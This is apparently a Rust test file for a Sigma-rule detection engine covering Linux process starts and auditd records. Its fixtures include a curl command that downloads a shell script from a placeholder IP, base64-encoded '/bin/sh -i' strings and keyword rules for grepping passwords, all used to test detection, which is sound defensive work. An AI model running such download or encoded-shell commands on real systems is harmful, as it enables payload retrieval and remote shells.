//! Rules against events: log sources, every modifier of the format, what is refused.

use rsigma_eval::{CompiledRule, Event, EventValue, JsonEvent, compile_rule};
use rsigma_parser::parse_sigma_yaml;

use super::*;
use crate::model::EventUid;
use crate::model::Severity;
use crate::model::process::Ancestor;
use crate::model::session::Origin;

fn process<'p>(argv: &'p [&'p [u8]], ancestors: &'p [Ancestor<'p>]) -> Process<'p> {
    Process {
        uid: EventUid(7),
        host: "web01",
        pid: Some(8),
        ppid: Some(7),
        exe: Some(b"/usr/bin/curl"),
        comm: Some(b"curl"),
        argv,
        cwd: Some(b"/home/deploy/.cache"),
        user: crate::model::process::Account {
            id: Some(1101),
            name: Some(b"deploy"),
        },
        session: Some(5),
        ancestors,
        keys: &[b"exec"],
        exit: Some(0),
        ..Process::default()
    }
}

const ARGV: [&[u8]; 4] = [b"curl", b"-o", b"X", b"http://203.0.113.66:8000/Upd.sh"];

fn rule(source: &str, detection: &str) -> String {
    format!(
        "title: t\nid: 11111111-2222-4333-8444-555555555555\nlogsource:\n    product: linux\n    {source}\n\
         detection:\n{detection}\nlevel: high\ntags:\n    - attack.execution\n    - attack.t1059.004\n"
    )
}

fn hits(source: &str, detection: &str) -> Vec<Behaviour> {
    let mut builder = Builder::default();
    let loaded = builder.add(&rule(source, detection));
    assert_eq!(loaded.refused, [], "{detection}");
    let parent = [Ancestor {
        pid: 7,
        exe: Some(b"/bin/bash"),
        command: Some(b"-bash"),
        started: None,
    }];
    let mut hits = Vec::new();
    builder.build().process(&process(&ARGV, &parent), &mut hits);
    hits
}

fn matches(lines: &[&str]) -> bool {
    let lines: Vec<String> = lines.iter().map(|line| format!("    {line}")).collect();
    !hits("category: process_creation", &lines.join("\n")).is_empty()
}

#[test]
fn the_fields_of_a_program_start_are_those_of_the_table() {
    for (field, value) in [
        ("Image", "/usr/bin/curl"),
        ("CommandLine", "curl -o X http://203.0.113.66:8000/Upd.sh"),
        ("ParentImage", "/bin/bash"),
        ("ParentCommandLine", "'-bash'"),
        ("CurrentDirectory", "/home/deploy/.cache"),
        ("User", "deploy"),
        ("ProcessId", "8"),
        ("ParentProcessId", "7"),
        ("LogonId", "5"),
    ] {
        let is = format!("s:\n        {field}: {value}");
        assert!(matches(&[&is, "condition: s"]), "{field}");
        let other = format!("s:\n        {field}: other");
        assert!(!matches(&[&other, "condition: s"]), "{field}");
    }
}

/// A modifier, a value that it finds in the event, and one that it does not.
#[test]
fn every_modifier_of_the_format_is_understood() {
    for (field, found, not) in [
        ("CommandLine|contains", "'-o x http'", "'-O x ftp'"),
        ("CommandLine|startswith", "CURL", "wget"),
        ("CommandLine|endswith", "upd.sh", "upd"),
        ("CommandLine|contains|cased", "Upd.sh", "upd.sh"),
        (
            "CommandLine|contains|all",
            "['curl', 'Upd']",
            "['curl', 'wget']",
        ),
        ("CommandLine|re", "'^curl\\s+-o'", "'^wget'"),
        ("CommandLine|re|i", "'UPD\\.SH$'", "'UPD\\.PY$'"),
        ("CommandLine|exists", "true", "false"),
        ("NoSuchField|exists", "false", "true"),
        ("ProcessId|lt", "9", "8"),
        ("ProcessId|lte", "8", "7"),
        ("ProcessId|gt", "7", "8"),
        ("ProcessId|gte", "8", "9"),
        ("CommandLine", "'curl*.sh'", "'curl?.sh'"),
        ("CommandLine|windash|contains", "' -o '", "' -p '"),
        ("ParentProcessId|fieldref", "ParentProcessId", "ProcessId"),
        ("User", "['root', 'deploy']", "['root', 'bob']"),
        ("NoSuchField", "null", "x"),
        ("User|neq", "root", "deploy"),
        ("CommandLine|re|m", "'^curl'", "'^http'"),
        ("CommandLine|re|s", "'curl.*Upd'", "'curl.*upd'"),
        ("Image|fieldref|endswith", "Image", "User"),
        ("Image|fieldref|startswith", "Image", "User"),
        ("Image|fieldref|contains", "Image", "User"),
        ("User|expand", "'%User%'", "'%Image%'"),
    ] {
        let with = |value: &str| format!("s:\n        {field}: {value}");
        assert!(matches(&[&with(found), "condition: s"]), "{field}: {found}");
        assert!(!matches(&[&with(not), "condition: s"]), "{field}: {not}");
    }
}

#[test]
fn what_is_encoded_is_found() {
    let found = |argument: &'static [u8], field: &str, value: &str| {
        let mut builder = Builder::default();
        let text = format!("    s:\n        {field}: {value}\n    condition: s");
        assert_eq!(
            builder
                .add(&rule("category: process_creation", &text))
                .refused,
            []
        );
        let mut hits = Vec::new();
        let argv: [&[u8]; 2] = [b"echo", argument];
        builder.build().process(&process(&argv, &[]), &mut hits);
        !hits.is_empty()
    };
    // base64 of "/bin/sh", and of "x/bin/sh -i" where the text begins elsewhere.
    assert!(found(
        b"L2Jpbi9zaA==",
        "CommandLine|base64|contains",
        "/bin/sh"
    ));
    assert!(found(
        b"eC9iaW4vc2ggLWk=",
        "CommandLine|base64offset|contains",
        "/bin/sh"
    ));
    assert!(!found(
        b"eC9iaW4vbHMgLWk=",
        "CommandLine|base64offset|contains",
        "/bin/sh"
    ));
    for (argument, modifier) in [
        (&b"YwBhAGwAYwA="[..], "wide"),
        (b"YwBhAGwAYwA=", "utf16le"),
        (b"AGMAYQBsAGM=", "utf16be"),
    ] {
        let field = format!("CommandLine|{modifier}|base64offset|contains");
        assert!(found(argument, &field, "calc"), "{modifier}");
        assert!(!found(b"Y2FsYw==", &field, "calc"), "{modifier}");
    }
    let bom = "CommandLine|utf16|base64|contains";
    assert!(found(b"//5jAGEAbABjAA==", bom, "calc"));
    assert!(!found(b"YwBhAGwAYwA=", bom, "calc"));
}

/// What contradicts itself is refused, and by which modifiers is said; what is of no use here matches nothing.
#[test]
fn modifiers_that_do_not_go_together_are_refused() {
    for (field, value, named) in [
        ("CommandLine|re|contains", "x", "contains, |re"),
        ("CommandLine|cidr|startswith", "10.0.0.0/8", "cidr"),
        ("CommandLine|gt|contains", "1", "gt"),
        ("CommandLine|contains|all", "x", "all"),
        ("CommandLine|base64|base64offset", "x", "base64"),
        ("CommandLine|wide|utf16be", "x", "utf16be"),
        ("CommandLine|re|base64", "x", "base64"),
        ("CommandLine|i", "x", "|i"),
        ("CommandLine|contains|fieldref", "Image", "fieldref"),
        ("CommandLine|re", "'('", "regex"),
        ("CommandLine|cidr", "x", "CIDR"),
        ("CommandLine|nosuch", "x", "nosuch"),
    ] {
        let text = format!("    s:\n        {field}: {value}\n    condition: s");
        let loaded = Builder::default().add(&rule("category: process_creation", &text));
        assert_eq!(loaded.rules, 0, "{field}");
        let (reason, named) = (loaded.refused[0].1.to_lowercase(), named.to_lowercase());
        assert!(reason.contains(&named), "{field}: {reason}");
    }
    for part in ["minute", "hour", "day", "week", "month", "year"] {
        let of_no_time = format!("s:\n        CommandLine|{part}: 1");
        assert!(!matches(&[&of_no_time, "condition: s"]), "{part}");
    }
}

#[test]
fn addresses_are_held_against_networks() {
    let mut builder = Builder::default();
    let text = "    s:\n        SourceIp|cidr: 203.0.113.0/24\n    condition: s";
    assert_eq!(
        builder.add(&rule("category: process_creation", text)).rules,
        1
    );
    let set = builder.build();
    let from = |ip: [u8; 4]| {
        let session = crate::model::session::Session {
            src_ip: Some(ip.into()),
            ..Default::default()
        };
        let mut hits = Vec::new();
        let event = Process {
            origin: Origin::Of(&session),
            ..process(&ARGV, &[])
        };
        set.process(&event, &mut hits);
        hits.len()
    };
    assert_eq!((from([203, 0, 113, 66]), from([10, 0, 0, 1])), (1, 0));
}

#[test]
fn conditions_are_joined() {
    let sel = [
        "a:\n        Image|endswith: /curl",
        "b:\n        User: root",
        "b_2:\n        User: deploy",
    ];
    let with =
        |condition: &str| matches(&[sel[0], sel[1], sel[2], &format!("condition: {condition}")]);
    assert!(with("a and not b") && with("1 of b*") && with("a or b") && with("(a and b_2) or b"));
    assert!(!with("all of them") && !with("a and b") && !with("not 1 of b*"));
}

#[test]
fn records_of_auditd_are_looked_at_one_by_one() {
    let source = "service: auditd";
    let execve =
        "    s:\n        type: EXECVE\n        a0: curl\n        a1: '-o'\n    condition: s";
    assert_eq!(hits(source, execve).len(), 1);
    let call = "    s:\n        type: SYSCALL\n        exe|endswith: /curl\n        key: exec\n        uid: 1101\n    condition: s";
    assert_eq!(hits(source, call).len(), 1);
    let both = "    s:\n        type: EXECVE\n        exe|endswith: /curl\n    condition: s";
    assert_eq!(hits(source, both).len(), 0, "exe is of the other record");
    let words = "    s:\n        - Upd.sh\n    condition: s";
    assert_eq!(hits(source, words).len(), 1, "a word, in any field");
}

#[test]
fn a_hit_tells_its_rule_and_the_fields_that_matched() {
    let detection = "    s:\n        Image|endswith: /curl\n        User: deploy\n    condition: s";
    let hits = hits("category: process_creation", detection);
    let rule = &hits[0].rule;
    assert_eq!((&*rule.title, rule.severity), ("t", Severity::High));
    assert_eq!(&*rule.tags[1], "attack.t1059.004");
    let fields: Vec<(&str, &str)> = hits[0].fields.iter().map(|(f, v)| (&**f, &**v)).collect();
    assert!(
        fields.contains(&("Image", "/usr/bin/curl")) && fields.contains(&("User", "deploy")),
        "{fields:?}"
    );
}

#[test]
fn rules_for_other_sources_and_broken_ones_are_refused_by_name() {
    let mut builder = Builder::default();
    let detection = "    s:\n        a: b\n    condition: s";
    for source in ["category: dns_query", "service: sshd", "definition: x"] {
        let loaded = builder.add(&rule(source, detection));
        assert_eq!((loaded.rules, &*loaded.refused[0].0), (0, "t"), "{source}");
    }
    let windows = rule("category: process_creation", detection).replace("linux", "windows");
    assert!(builder.add(&windows).refused[0].1.contains("windows"));
    for broken in [
        "title: [",
        "title: x\n",
        &rule(
            "category: process_creation",
            "    s:\n        a: b\n    condition: nope",
        ),
    ] {
        let loaded = builder.add(broken);
        assert_eq!(loaded.rules, 0, "{broken}");
    }
    assert!(builder.build().is_empty());
}

#[test]
fn the_pack_is_taken_whole_and_tells_its_techniques() {
    let mut builder = Builder::default();
    let mut ids = std::collections::BTreeSet::new();
    for (name, text) in pack::PACK {
        let loaded = builder.add(text);
        assert!(
            loaded.refused.is_empty() && loaded.rules > 0,
            "{name}: {loaded:?}"
        );
    }
    let set = builder.build();
    assert!(set.len() >= 20);
    for rules in [&set.starts, &set.files, &set.network] {
        for rule in rules.told() {
            assert!(ids.insert(rule.id.clone()), "{} twice", rule.id);
            let has = |prefix: &str| rule.tags.iter().any(|tag| tag.starts_with(prefix));
            assert!(
                has("attack.t1") && !rule.description.is_empty(),
                "{}",
                rule.title
            );
        }
    }
}

impl view::View for JsonEvent<'_> {
    fn raw(&self, name: &str) -> Option<view::Raw<'_>> {
        Some(match self.get_field(name)? {
            EventValue::Str(text) => view::Raw::Text(text.into_owned().into_bytes().into()),
            other => view::Raw::Other(other),
        })
    }
}

/// Places of the rules that the engine is asked about.
fn asked(rules: &[&str], known: clauses::Known<'_>, event: &serde_json::Value) -> Vec<usize> {
    let compiled: Vec<CompiledRule> = rules
        .iter()
        .flat_map(|detection| {
            parse_sigma_yaml(&rule("service: auditd", detection))
                .unwrap()
                .rules
        })
        .map(|rule| compile_rule(&rule).unwrap())
        .collect();
    assert_eq!(compiled.len(), rules.len());
    let mut asked = Vec::new();
    let filter = prefilter::Prefilter::new(&compiled, known);
    filter.candidates(&JsonEvent::borrow(event), |place| asked.push(place));
    asked
}

#[test]
fn a_rule_is_asked_only_where_one_of_its_words_stands() {
    let rules = [
        // Keywords may stand in any field, and each alone.
        "    s:\n        type: EXECVE\n    keywords:\n        '|all':\n            - grep\n            - password\n    condition: s and keywords",
        // Of two ways to match, one is for another type of record.
        "    one:\n        type: SYSCALL\n        exe|endswith: /useradd\n    two:\n        type: ADD_USER\n    condition: 1 of one or two",
        "    one:\n        type: EXECVE\n        a0: uname\n    two:\n        type: PATH\n        name: /etc/x\n    condition: one or two",
        "    s:\n        type: PATH\n    condition: s",
    ];
    let known = Some(("type", "execve"));
    let asked = |event: serde_json::Value| asked(&rules, known, &event);
    assert_eq!(
        asked(serde_json::json!({"type": "EXECVE", "a0": "ls", "a1": "-l"})),
        [0usize; 0]
    );
    let both = serde_json::json!({"type": "EXECVE", "a0": "grep", "a1": "-i", "a2": "password"});
    assert_eq!(asked(both), [0]);
    assert_eq!(
        asked(serde_json::json!({"type": "EXECVE", "a0": "grep", "a1": "x"})),
        [0usize; 0]
    );
    assert_eq!(
        asked(serde_json::json!({"type": "EXECVE", "a0": "uname"})),
        [2]
    );
    let foreign = serde_json::json!({"type": "EXECVE", "a0": "Grüße"});
    assert_eq!(asked(foreign), [0usize; 0]);
    let kelvin = serde_json::json!({"type": "EXECVE", "a0": "\u{212A}"});
    assert_eq!(asked(kelvin), [0, 2], "the engine folds letters");
}
